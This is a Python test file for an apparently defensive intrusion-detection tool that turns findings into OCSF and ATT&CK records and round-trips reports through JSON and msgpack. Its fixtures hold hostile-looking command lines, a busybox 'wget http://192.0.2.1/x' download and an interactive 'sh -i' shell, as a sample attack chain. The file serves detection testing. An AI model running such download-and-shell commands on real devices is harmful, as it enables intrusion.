from __future__ import annotations

import contextlib
import json

import msgpack
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.codec import attack, ocsf, report, strict_json
from vedette.errors import ParseError
from vedette.model.event import EventClass
from vedette.model.finding import Finding, Incident, IncidentStatus, Loss, Severity
from vedette.model.process import ProcessFacts, ProcessKey

WGET = ProcessFacts(
    ProcessKey(40, 900), 30, "/bin/busybox", "wget", "wget http://192.0.2.1/x\udcff", 0, "root",
    "telnetd.service", "ab" * 32,
)  # fmt: skip
SHELL = ProcessFacts(ProcessKey(30, 800), 1, "/bin/busybox", "sh", "sh -i", 0, "root", "", "")
FINDING = Finding(
    rule_id="6f3e2987-db24-4c78-a860-b4f4095a7095",
    title="Download by a shell of telnetd",
    author="A. Author",
    severity=Severity.HIGH,
    tags=("attack.execution", "attack.t1059.004", "attack.t1105", "cve.2026.1"),
    event_class=EventClass.PROCESS,
    tier="audit",
    at_s=12.5,
    wall_s=1_795_264_806.0,
    fields={"Image": "/bin/busybox", "DestinationIp": "192.0.2.1", "DestinationPort": "80"},
    chain=(WGET, SHELL),
    losses=(Loss(EventClass.PROCESS, "kernel", 3),),
    bundle="cd" * 32,
)
INCIDENT = Incident(
    incident_id="feedfacefeedface",
    status=IncidentStatus.UPDATED,
    revision=2,
    severity=Severity.CRITICAL,
    finding=FINDING,
    count=7,
    first_seen_wall_s=1_795_264_806.0,
    last_seen_wall_s=1_795_264_807.25,
    actions=("froze 40",),
)


def test_the_document_has_the_ids_that_ocsf_prescribes() -> None:
    document = ocsf.detection_finding(INCIDENT, "cam-7", "acme")
    expected = {
        "class_uid": 2004, "category_uid": 2, "activity_id": 2, "type_uid": 200402,
        "severity_id": 5, "status_id": 2, "count": 7, "time": 1_795_264_807_250,
        "start_time": 1_795_264_806_000,
    }  # fmt: skip
    assert {name: document[name] for name in expected} == expected
    assert document["device"] == {"uid": "cam-7", "type_id": 7, "type": "IOT"}


@pytest.mark.parametrize(
    ("status", "activity", "state"),
    [
        (IncidentStatus.CREATED, 1, 1),
        (IncidentStatus.UPDATED, 2, 2),
        (IncidentStatus.CLOSED, 3, 4),
    ],
)
def test_created_updated_and_closed_are_activities(
    status: IncidentStatus, activity: int, state: int
) -> None:
    incident = Incident("feed", status, 1, Severity.LOW, FINDING, 1, 0.0, 0.0, ())
    document = ocsf.detection_finding(incident)
    assert (document["activity_id"], document["status_id"]) == (activity, state)


def test_the_chain_is_nested_from_the_process_to_its_oldest_ancestor() -> None:
    document = json.loads(ocsf.canonical(ocsf.detection_finding(INCIDENT)))
    process = document["evidences"][0]["process"]
    assert (process["pid"], process["uid"], process["name"]) == (40, "40/900", "wget")
    assert process["file"]["hashes"][0]["value"] == "ab" * 32
    assert process["parent_process"]["cmd_line"] == "sh -i"
    assert document["evidences"][0]["dst_endpoint"] == {"ip": "192.0.2.1", "port": 80}


def test_the_author_of_the_rule_is_named_as_its_licence_asks() -> None:
    document = json.loads(ocsf.canonical(ocsf.detection_finding(INCIDENT)))
    assert "A. Author" in document["finding_info"]["analytic"]["desc"]
    assert document["unmapped"]["rule_author"] == "A. Author"


def test_tags_become_attack_objects() -> None:
    assert attack.attacks(FINDING.tags) == [
        {"tactic": {"uid": "TA0002", "name": "Execution"}},
        {"technique": {"uid": "T1059"}, "sub_technique": {"uid": "T1059.004"}},
        {"technique": {"uid": "T1105"}},
    ]


def test_bytes_that_were_no_text_are_shown_and_valid() -> None:
    body = ocsf.canonical(ocsf.detection_finding(INCIDENT))
    assert b"x\\\\xff" in body
    strict_json.parse(body, max_bytes=len(body))


@pytest.mark.parametrize("content_type", [report.JSON, report.MSGPACK])
def test_every_encoding_says_the_same_and_is_read_back(content_type: str) -> None:
    document = json.loads(ocsf.canonical(ocsf.detection_finding(INCIDENT, "cam-7")))
    body = report.encode(document, content_type)
    assert report.decode(body, content_type) == document
    found = report.parse_report(report.decode(body, content_type))
    assert (found.incident_id, found.revision, found.times) == ("feedfacefeedface", 2, 7)
    assert (found.status, found.severity) == ("updated", Severity.CRITICAL)
    assert [link.pid for link in found.chain] == [40, 30]
    assert found.losses == ("process: 3 at kernel",)
    assert (found.tier, found.author, found.actions) == ("audit", "A. Author", ("froze 40",))
    assert dict(found.fields) == FINDING.fields


def test_a_reduced_document_keeps_who_what_and_the_digest() -> None:
    whole = ocsf.canonical(ocsf.detection_finding(INCIDENT))
    small = ocsf.reduced(whole, json.loads(whole))
    found = report.parse_report(small)
    assert found.is_reduced
    assert len(found.whole_sha256) == 64
    assert (found.title, found.severity, found.times, found.revision) == (
        FINDING.title,
        Severity.CRITICAL,
        7,
        2,
    )
    assert len(strict_json.canonical(small)) < len(whole) / 2


@given(st.text(), st.text(), st.dictionaries(st.text(max_size=5), st.text(), max_size=3))
def test_any_text_in_an_incident_gives_a_valid_document(
    title: str, command: str, fields: dict[str, str]
) -> None:
    chain = (WGET._replace(command_line=command, image=title),)
    finding = Finding(
        "r", title, title, Severity.LOW, (title,), EventClass.FILE, "t", 0.0, 0.0, fields, chain,
        (), "",
    )  # fmt: skip
    incident = Incident("i", IncidentStatus.CREATED, 1, Severity.LOW, finding, 1, 0.0, 0.0, ())
    body = ocsf.canonical(ocsf.detection_finding(incident))
    document = strict_json.parse(body, max_bytes=len(body))
    assert msgpack.unpackb(report.encode(document, report.MSGPACK)) == document
    report.parse_report(document)


JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers(-5, 300) | st.text(max_size=5),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["class_uid", "finding_info", "uid", "evidences", "process", "parent_process",
                 "unmapped", "losses", "severity_id", "count", "data"]
            ),
            inner,
            max_size=6,
        )
    ),
    max_leaves=20,
)  # fmt: skip


@given(JSONISH)
def test_any_document_gives_a_report_or_a_parse_error(document: strict_json.Json) -> None:
    if isinstance(document, dict):
        document = {**document, "class_uid": 2004}
    with contextlib.suppress(ParseError):
        report.parse_report(document)


@given(st.binary(max_size=200), st.sampled_from([report.JSON, report.MSGPACK, "text/plain"]))
def test_any_bytes_give_a_document_or_a_parse_error(body: bytes, content_type: str) -> None:
    with contextlib.suppress(ParseError):
        report.decode(body, content_type)


@pytest.mark.parametrize("body", [b"\x91" * 5000 + b"\x00", b"\xd6\xff\x00\x00\x00\x00"])
def test_msgpack_that_json_does_not_know_is_refused(body: bytes) -> None:
    with pytest.raises(ParseError):
        report.decode(body, report.MSGPACK)
